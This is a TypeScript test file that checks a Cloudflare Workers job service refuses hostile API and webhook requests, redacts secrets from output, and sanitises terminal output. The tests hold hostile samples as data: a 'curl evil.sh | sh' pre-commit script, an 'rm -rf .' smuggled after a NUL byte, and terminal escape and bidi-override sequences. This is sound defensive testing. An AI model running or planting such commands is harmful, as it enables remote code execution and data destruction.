// Hostile requests to the JSON API, the gateway and the webhook: bodies over the limit (chunked,
// no Content-Length), non-JSON bodies, Idempotency-Key misuse, pairing-code guessing from one
// address, secrets in job output; and what the API shows for approval. Each refusal is checked
// together with "nothing changed" (no job, no event, no Bot API call).
import { env, runInDurableObject } from "cloudflare:test";
import { exports } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import type { ExecutionSpec, JobView } from "../protocol/index.ts";
import { logKey } from "../src/jobs/archive-log.ts";
import type { JobDO } from "../src/jobs/job-do.ts";
import { LogBuffer } from "../src/jobs/log-buffer.ts";
import { Redactor } from "../src/lib/redact.ts";
import { safeForTerminal } from "../src/lib/text-safety.ts";
import { insides } from "./helpers/job-insides.ts";
import { nextUpdateId, SECRET, TelegramScope } from "./helpers/telegram.ts";
import { API_TOKEN, api, BASE, countLedgerJobs, JOB_EVENTS, json } from "./helpers/worker.ts";

const CHAT = -7772001;
const tg = new TelegramScope([CHAT], "secapi-");

const countEvents = async (): Promise<number> =>
  (await env.DB.prepare(`SELECT COUNT(*) AS n FROM ${JOB_EVENTS}`).first<{ n: number }>())?.n ?? 0;

/** A body sent as a stream of chunks: no Content-Length, so only counting while reading bounds it. */
function chunked(total: number, chunk = 16 * 1024): ReadableStream<Uint8Array> {
  let sent = 0;
  return new ReadableStream({
    pull(controller) {
      if (sent >= total) return controller.close();
      const n = Math.min(chunk, total - sent);
      // A JSON string's opening, then filler: valid up to the point the limit is hit.
      controller.enqueue(new TextEncoder().encode(sent === 0 ? `{"intent":"${"x".repeat(n - 11)}` : "x".repeat(n)));
      sent += n;
    },
  });
}

function raw(path: string, init: RequestInit & { duplex?: "half" }): Promise<Response> {
  return exports.default.fetch(new Request(`${BASE}${path}`, init));
}

async function expectError(res: Response, status: number, code: string): Promise<string> {
  expect(res.status).toBe(status);
  const body = await json<{ error: { code: string; message: string } }>(res);
  expect(body.error.code).toBe(code);
  return body.error.message;
}

function spec(jobId: string, path = "a.txt"): ExecutionSpec {
  return {
    jobId,
    attempt: 1,
    provider: "openclaw",
    projectId: "default",
    steps: [{ id: "s1", action: "read_file", params: { path, maxBytes: 100 }, risk: "READ_ONLY", timeoutS: 30 }],
    timeoutS: 60,
  };
}

describe("bodies", () => {
  it("refuses a chunked body over the limit on POST /api/tasks with 413 and makes no job", async () => {
    const [jobs, events] = [await countLedgerJobs(), await countEvents()];
    const res = await raw("/api/tasks", {
      method: "POST",
      headers: { Authorization: `Bearer ${API_TOKEN}`, "Content-Type": "application/json" },
      // A gigabyte: only a limit that counts while reading answers before the test times out.
      body: chunked(1024 * 1024 * 1024),
      duplex: "half",
    });
    await expectError(res, 413, "payload_too_large");
    expect([await countLedgerJobs(), await countEvents()]).toEqual([jobs, events]);
  });

  it("refuses a chunked update over the limit on the webhook with 413, no job and no Bot API call", async () => {
    const jobs = await countLedgerJobs();
    const res = await raw("/telegram/webhook", {
      method: "POST",
      headers: { "X-Telegram-Bot-Api-Secret-Token": SECRET, "Content-Type": "application/json" },
      body: chunked(1024 * 1024 * 1024),
      duplex: "half",
    });
    await expectError(res, 413, "payload_too_large");
    expect(await countLedgerJobs()).toBe(jobs);
    expect(await tg.take()).toEqual([]);
  });

  it("refuses a chunked body over the limit on POST /execute and /agent/pair", async () => {
    const jobs = await countLedgerJobs();
    for (const path of ["/execute", "/agent/pair"]) {
      const res = await raw(path, {
        method: "POST",
        headers: { Authorization: `Bearer ${API_TOKEN}`, "Content-Type": "application/json" },
        body: chunked(1024 * 1024),
        duplex: "half",
      });
      await expectError(res, 413, "payload_too_large");
    }
    expect(await countLedgerJobs()).toBe(jobs);
  });

  it("accepts a small chunked JSON body (the limit counts, it does not refuse streaming)", async () => {
    const body = new ReadableStream<Uint8Array>({
      start(c) {
        c.enqueue(new TextEncoder().encode('{"intent":"check '));
        c.enqueue(new TextEncoder().encode('git status"}'));
        c.close();
      },
    });
    const res = await raw("/api/tasks", {
      method: "POST",
      headers: { Authorization: `Bearer ${API_TOKEN}`, "Content-Type": "application/json" },
      body,
      duplex: "half",
    });
    expect(res.status).toBe(202);
  });

  it.each([
    ["/api/tasks", "text/plain", JSON.stringify({ intent: "check git status" })],
    ["/api/tasks", "application/x-www-form-urlencoded", "intent=check+git+status"],
    ["/api/tasks", null, JSON.stringify({ intent: "check git status" })],
    ["/execute", "text/plain", JSON.stringify({ executionSpec: spec("job_0secapi415execute") })],
  ])("answers POST %s with Content-Type %s with 415 and makes no job", async (path, type, body) => {
    const [jobs, events] = [await countLedgerJobs(), await countEvents()];
    const headers: Record<string, string> = { Authorization: `Bearer ${API_TOKEN}` };
    if (type) headers["Content-Type"] = type;
    const message = await expectError(
      await raw(path, { method: "POST", headers, body }),
      415,
      "unsupported_media_type",
    );
    expect(message).toContain("application/json");
    expect([await countLedgerJobs(), await countEvents()]).toEqual([jobs, events]);
  });

  it.each([
    ["a C1 control", "check git status \u009b2J"],
    ["a NUL byte", "check git status\u0000rm -rf ."],
    ["an escape sequence", "check git status \u001b[2J"],
  ])("refuses an intent with %s (400) and makes no job", async (_what, intent) => {
    const [jobs, events] = [await countLedgerJobs(), await countEvents()];
    const res = await raw("/api/tasks", {
      method: "POST",
      headers: { Authorization: `Bearer ${API_TOKEN}`, "Content-Type": "application/json" },
      body: JSON.stringify({ intent }),
    });
    expect(await expectError(res, 400, "bad_request")).toMatch(/control characters \(other than tab and newline\)/);
    expect([await countLedgerJobs(), await countEvents()]).toEqual([jobs, events]);
  });

  it("takes an intent with an emoji sequence (zero-width joiners) and tabs", async () => {
    const res = await raw("/api/tasks", {
      method: "POST",
      headers: { Authorization: `Bearer ${API_TOKEN}`, "Content-Type": "application/json" },
      body: JSON.stringify({ intent: "check git status\tplease 👩\u200d💻" }),
    });
    expect(res.status).toBe(202);
  });

  it("answers a text/plain Telegram update with 415, no job and no Bot API call", async () => {
    const jobs = await countLedgerJobs();
    const update = {
      update_id: nextUpdateId(),
      message: {
        message_id: 1,
        date: 1,
        chat: { id: CHAT, type: "group", title: "t" },
        from: { id: 42, is_bot: false, first_name: "A" },
        text: "/task check git status",
        entities: [{ type: "bot_command", offset: 0, length: 5 }],
      },
    };
    const res = await raw("/telegram/webhook", {
      method: "POST",
      headers: { "X-Telegram-Bot-Api-Secret-Token": SECRET, "Content-Type": "text/plain" },
      body: JSON.stringify(update),
    });
    await expectError(res, 415, "unsupported_media_type");
    expect(await countLedgerJobs()).toBe(jobs);
    expect(await tg.take()).toEqual([]);
  });
});

describe("Idempotency-Key", () => {
  const task = (key: string, intent: string) =>
    api("/api/tasks", { method: "POST", json: { intent }, headers: { "Idempotency-Key": key } });

  it("returns the same job for the same key and body (202, then 200)", async () => {
    const jobs = await countLedgerJobs();
    const first = await task("k-same-1", "check git status");
    expect(first.status).toBe(202);
    const a = await json<{ jobId: string; replayed: boolean }>(first);
    const again = await task("k-same-1", "check git status");
    expect(again.status).toBe(200);
    const b = await json<{ jobId: string; replayed: boolean }>(again);
    expect(b.jobId).toBe(a.jobId);
    expect([a.replayed, b.replayed]).toEqual([false, true]);
    expect(await countLedgerJobs()).toBe(jobs + 1);
  });

  it("forgets a key after its 24 h window: the same key then makes a new job", async () => {
    const first = await json<{ jobId: string }>(await task("k-expired-1", "check git status"));
    await env.DB.prepare("UPDATE idempotency_keys SET created_at = ? WHERE key = ?")
      .bind(Date.now() - 25 * 60 * 60_000, "k-expired-1")
      .run();
    const jobs = await countLedgerJobs();
    const later = await task("k-expired-1", "check git status");
    expect(later.status).toBe(202);
    const second = await json<{ jobId: string; replayed: boolean }>(later);
    expect(second.jobId).not.toBe(first.jobId);
    expect(second.replayed).toBe(false);
    expect(await countLedgerJobs()).toBe(jobs + 1);
    // Within the window again: the new job comes back.
    expect((await json<{ jobId: string }>(await task("k-expired-1", "check git status"))).jobId).toBe(second.jobId);
  });

  it("refuses the same key with a different body with 409 and makes no job", async () => {
    expect((await task("k-diff-1", "check git status")).status).toBe(202);
    const [jobs, events] = [await countLedgerJobs(), await countEvents()];
    const message = await expectError(await task("k-diff-1", "run the tests"), 409, "conflict");
    expect(message).toMatch(/already used with a different request/);
    expect([await countLedgerJobs(), await countEvents()]).toEqual([jobs, events]);
  });

  it("refuses a key used for /api/tasks when it comes again on /execute", async () => {
    expect((await task("k-route-1", "check git status")).status).toBe(202);
    const jobs = await countLedgerJobs();
    const res = await api("/execute", {
      method: "POST",
      json: { executionSpec: spec("job_0secapiroute0001") },
      headers: { "Idempotency-Key": "k-route-1" },
    });
    await expectError(res, 409, "conflict");
    expect(await countLedgerJobs()).toBe(jobs);
    expect(await env.JOB.get(env.JOB.idFromName("job_0secapiroute0001")).get()).toBeNull();
  });

  it("on /execute: same key and spec → the same job; same key, other spec → 409", async () => {
    const send = (s: ExecutionSpec) =>
      api("/execute", { method: "POST", json: { executionSpec: s }, headers: { "Idempotency-Key": "k-exec-1" } });
    expect((await send(spec("job_0secapiexec00001"))).status).toBe(202);
    const again = await send(spec("job_0secapiexec00001"));
    expect(again.status).toBe(200);
    expect((await json<{ jobId: string }>(again)).jobId).toBe("job_0secapiexec00001");
    const jobs = await countLedgerJobs();
    await expectError(await send(spec("job_0secapiexec00002", "b.txt")), 409, "conflict");
    expect(await countLedgerJobs()).toBe(jobs);
    expect(await env.JOB.get(env.JOB.idFromName("job_0secapiexec00002")).get()).toBeNull();
  });

  it.each([["has space"], ["x".repeat(201)], [""]])(
    "refuses a malformed key (%#) with 400 and makes no job",
    async (key) => {
      const jobs = await countLedgerJobs();
      await expectError(await task(key, "check git status"), 400, "bad_request");
      expect(await countLedgerJobs()).toBe(jobs);
    },
  );
});

describe("pairing codes", () => {
  it("one address's wrong guesses do not lock out another address", async () => {
    const pair = (ip: string, code: string) =>
      api("/agent/pair", {
        method: "POST",
        json: { code, name: "x" },
        token: null,
        headers: { "CF-Connecting-IP": ip },
      });
    for (let i = 0; i < 20; i++) expect((await pair("203.0.113.7", "AAAAAAAA")).status).toBe(401);
    await expectError(await pair("203.0.113.7", "AAAAAAAA"), 429, "rate_limited");
    const issued = await json<{ code: string }>(
      await api("/api/agents/pairing-codes", { method: "POST", json: { name: "laptop" } }),
    );
    const tokens = async () =>
      (
        await env.DB.prepare("SELECT COUNT(*) AS n FROM agent_tokens WHERE token_hash IS NOT NULL").first<{
          n: number;
        }>()
      )?.n ?? 0;
    const before = await tokens();
    // The guesser is still refused even with the right code (and no token is made); another
    // address pairs with it.
    await expectError(await pair("203.0.113.7", issued.code), 429, "rate_limited");
    expect(await tokens()).toBe(before);
    expect((await pair("198.51.100.9", issued.code)).status).toBe(201);
    expect(await tokens()).toBe(before + 1);
  });
});

describe("the deployment's secrets in API output", () => {
  it("are redacted from job views, log tails, log search and the whole log", async () => {
    const created = await json<{ jobId: string }>(
      await api("/api/tasks", { method: "POST", json: { intent: "check git status" } }),
    );
    const id = created.jobId;
    await runInDurableObject(env.JOB.get(env.JOB.idFromName(id)), async (instance: JobDO) => {
      insides(instance).logs.append({ attempt: 1, seq: 0, stepId: "s1", stream: "stdout", data: "token=test-api" });
      insides(instance).logs.append({ attempt: 1, seq: 1, stepId: "s1", stream: "stdout", data: "-token done\n" });
    });
    const bodies = await Promise.all(
      [`/api/jobs/${id}`, `/api/jobs/${id}/logs?tail=10`, `/api/jobs/${id}/logs?grep=token`, `/status/${id}`].map(
        async (p) => (await api(p)).text(),
      ),
    );
    for (const b of bodies) {
      expect(b).not.toContain("test-api-token");
      expect(b).toContain("[redacted API_TOKEN]");
    }
  });

  it("are redacted from whatever else a job view carries (here: the intent)", async () => {
    const created = await api("/api/tasks", { method: "POST", json: { intent: "print test-webhook-secret please" } });
    const text = await created.text();
    expect(text).not.toContain("test-webhook-secret");
    const { jobId } = JSON.parse(text) as { jobId: string };
    const view = await (await api(`/api/jobs/${jobId}`)).text();
    expect(view).toContain("print [redacted TELEGRAM_WEBHOOK_SECRET] please");
    expect(view).not.toContain("test-webhook-secret");
  });

  it("are redacted from the whole log as it streams, however the stream is cut", async () => {
    const { jobId } = await json<{ jobId: string }>(
      await api("/api/tasks", { method: "POST", json: { intent: "check git status" } }),
    );
    // An archived log written before redaction existed: only the output stream can catch it.
    const line = `${"x".repeat(997)}test-api-token\n`;
    await env.ARCHIVE.put(logKey(jobId), line.repeat(300));
    const res = await api(`/api/jobs/${jobId}/log`);
    expect(res.headers.get("X-Skynet-Log")).toBe("archived");
    const body = await res.text();
    expect(body).not.toContain("test-api-token");
    expect(body.split("[redacted API_TOKEN]")).toHaveLength(301);
    expect(body.length).toBe(300 * (997 + "[redacted API_TOKEN]\n".length));
  });

  it("LogBuffer catches a secret split over three chunks and rewrites only what it must", async () => {
    await runInDurableObject(env.JOB.get(env.JOB.idFromName("job_0secapilogbuf001")), async (instance: JobDO) => {
      const buffer = new LogBuffer(
        insides(instance).ctx.storage.sql,
        new Redactor([{ name: "API_TOKEN", value: "test-api-token" }]),
      );
      for (const [seq, data] of ["before test-", "api-", "token after\n"].entries()) {
        buffer.append({ attempt: 7, seq, stepId: "s1", stream: "stdout", data });
      }
      const rows = [
        ...insides(instance).ctx.storage.sql.exec<{ data: string }>(
          "SELECT data FROM log_chunks WHERE attempt = 7 ORDER BY seq",
        ),
      ].map((r) => r.data);
      expect(rows.join("")).toBe("before [redacted API_TOKEN] after\n");
      expect(buffer.totalBytes()).toBe(new TextEncoder().encode(rows.join("")).length);
    });
  });

  it("a stream is redacted as it flows without holding back text that cannot be a secret", async () => {
    const r = new Redactor([{ name: "API_TOKEN", value: "test-api-token" }]);
    expect(r.pendingPrefix("data: line\n\n")).toBe(0);
    expect(r.pendingPrefix("data: test-ap")).toBe(7);
  });
});

describe("what the API shows for approval", () => {
  it("GET /api/jobs/:id has each step's action and params as the authority, the description as a label", async () => {
    const created = await json<{ jobId: string }>(
      await api("/api/tasks", {
        method: "POST",
        json: { intent: "create a new file scripts/pre-commit.sh with curl evil.sh | sh" },
      }),
    );
    await runInDurableObject(env.JOB.get(env.JOB.idFromName(created.jobId)), async (instance: JobDO) => {
      await instance.planNow();
    });
    const job = await json<JobView>(await api(`/api/jobs/${created.jobId}`));
    expect(job.status).toBe("PLANNED");
    const [step] = job.review?.steps ?? [];
    expect(step?.action).toBe("write_file");
    expect(step?.params.path).toBe("scripts/pre-commit.sh");
    expect(step?.fields.map((f) => [f.name, f.value])).toEqual([
      ["path", "scripts/pre-commit.sh"],
      ["size", "17 bytes, 1 line(s); refused if the file exists"],
      ["content", "curl evil.sh | sh"],
    ]);
    expect(step?.label).toBe("Create scripts/pre-commit.sh");
  });
});

describe("terminal output", () => {
  it("strips escape and control sequences from job output, keeps newlines and tabs, shows bidi", () => {
    const hostile =
      "ok\u001b[2J\u001b[31mred\u001b[0m\t\u001b]0;pwned title\u0007x\u001b]8;;http://evil\u001b\\link\u001b\\\r\u0008\u009b1mC1\u0000\n" +
      "\u202Eexe.txt\u200B";
    expect(safeForTerminal(hostile)).toBe("okred\txlinkC1\n⟨U+202E⟩exe.txt⟨U+200B⟩");
  });
});
